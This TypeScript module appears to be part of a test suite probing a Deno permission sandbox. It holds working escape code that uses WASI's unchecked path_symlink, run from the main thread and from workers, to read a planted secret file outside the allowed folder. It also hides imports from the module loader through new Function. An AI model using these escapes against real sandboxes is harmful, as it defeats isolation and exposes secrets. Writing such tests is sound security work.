/**
 * Ways out of a sandbox by WASI, of which every worker has its own, and what attempts share.
 *
 * @module
 */

/** Where there is something to get, all of it outside of what a script is given. */
export interface Prey {
  /** A folder beside the working one, with `secret.txt` in it. */
  readonly outside: string;
  /** The script's own folder, which it may write. */
  readonly here: string;
  /** The folder of `deno.json`. */
  readonly project: string;
  /** The port on 127.0.0.1 of a server that answers "secret". */
  readonly port: number;
  /** A Unix socket on which "secret" is sent. */
  readonly socket: string;
  /** A native library. */
  readonly library: string;
  /** The process that started the script. */
  readonly parent: number;
}

/** Hidden from the loader, which would fetch what a script names before it runs. */
// deno-lint-ignore no-explicit-any
export const load = (url: string, options?: unknown): Promise<any> =>
  new Function("url", "options", "return import(url, options)")(url, options);

/** Runs code in a worker; the answer is what it posts. */
export function inWorker(code: string, options: Record<string, unknown> = {}): Promise<unknown> {
  const url = `data:text/javascript,${encodeURIComponent(code)}`;
  const worker = new Worker(url, { type: "module", ...options });
  const { promise, resolve, reject } = Promise.withResolvers();
  worker.onmessage = ({ data }) => resolve(data);
  worker.onerror = (event) => {
    event.preventDefault();
    reject(new Error(event.message));
  };
  return promise.finally(() => worker.terminate());
}

/** A module with a memory and an empty `_start`. */
const EMPTY_PROGRAM = [
  [0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00],
  [0x01, 0x04, 0x01, 0x60, 0x00, 0x00, 0x03, 0x02, 0x01, 0x00, 0x05, 0x03, 0x01, 0x00, 0x01],
  [0x07, 0x13, 0x02, 0x06, 0x6d, 0x65, 0x6d, 0x6f, 0x72, 0x79, 0x02, 0x00],
  [0x06, 0x5f, 0x73, 0x74, 0x61, 0x72, 0x74, 0x00, 0x00],
  [0x0a, 0x04, 0x01, 0x02, 0x00, 0x0b],
].flat();

/** Makes a symbolic link by WASI, whose calls Deno does not check, and reads through it. */
const READ_BY_WASI = `async function readByWasi(WASI, here, link, target, how) {
  const wasi = new WASI({ version: "preview1", preopens: { "/here": here } });
  const bytes = new Uint8Array([${EMPTY_PROGRAM}]);
  const instance = new WebAssembly.Instance(new WebAssembly.Module(bytes));
  if (how === "bindings") wasi.finalizeBindings(instance);
  else wasi.start(instance);
  const memory = new Uint8Array(instance.exports.memory.buffer);
  const texts = [new TextEncoder().encode(target), new TextEncoder().encode(link)];
  memory.set(texts[0], 0);
  memory.set(texts[1], 1024);
  const { path_symlink } = wasi.wasiImport ?? wasi.getImportObject().wasi_snapshot_preview1;
  const code = path_symlink(0, texts[0].length, 3, 1024, texts[1].length);
  if (code !== 0) throw new Error("WASI answers " + code);
  return Deno.readTextFileSync(here + "/" + link);
}`;

async function readByWasi(
  { here, outside }: Prey,
  { WASI, link, how = "start" }: { WASI: unknown; link: string; how?: string },
): Promise<unknown> {
  const read = new Function(`${READ_BY_WASI}; return readByWasi`)();
  return await read(WASI, here, link, `${outside}/secret.txt`, how);
}

const wasiInWorker = ({ here, outside }: Prey, link: string) =>
  `${READ_BY_WASI}
  const { WASI } = await import("node:wasi");
  const [here, target] = ${JSON.stringify([here, `${outside}/secret.txt`])};
  post(await readByWasi(WASI, here, ${JSON.stringify(link)}, target));`;

async function inNodeWorker(code: string): Promise<unknown> {
  const { Worker } = await load("node:worker_threads");
  const url = new URL(`data:text/javascript,${encodeURIComponent(code)}`);
  const worker = new Worker(url);
  const { promise, resolve, reject } = Promise.withResolvers();
  worker.on("message", resolve).on("error", reject);
  return await promise.finally(() => worker.terminate());
}

/** Reading a file outside through a link that WASI makes. */
export const READING_BY_WASI: Readonly<Record<string, (prey: Prey) => unknown>> = {
  "WASI": async (prey) =>
    await readByWasi(prey, { WASI: (await load("node:wasi")).WASI, link: "wasi1" }),
  "WASI bindings": async (prey) => {
    const { WASI } = await load("node:wasi");
    return await readByWasi(prey, { WASI, link: "wasi2", how: "bindings" });
  },
  "WASI of a required module": async (prey) => {
    const { WASI } = (await load("node:module")).createRequire(`${prey.here}/x.js`)("wasi");
    return await readByWasi(prey, { WASI, link: "wasi3" });
  },
  "WASI of the process": async (prey) => {
    const { WASI } = (await load("node:process")).default.getBuiltinModule("node:wasi");
    return await readByWasi(prey, { WASI: class extends WASI {}, link: "wasi4" });
  },
  "WASI in a worker": (prey) =>
    inWorker(`const post = postMessage; ${wasiInWorker(prey, "wasi5")}`),
  "WASI in a worker of node": (prey) =>
    inNodeWorker(
      `const { parentPort } = await import("node:worker_threads");
      const post = (text) => parentPort.postMessage(text); ${wasiInWorker(prey, "wasi6")}`,
    ),
};
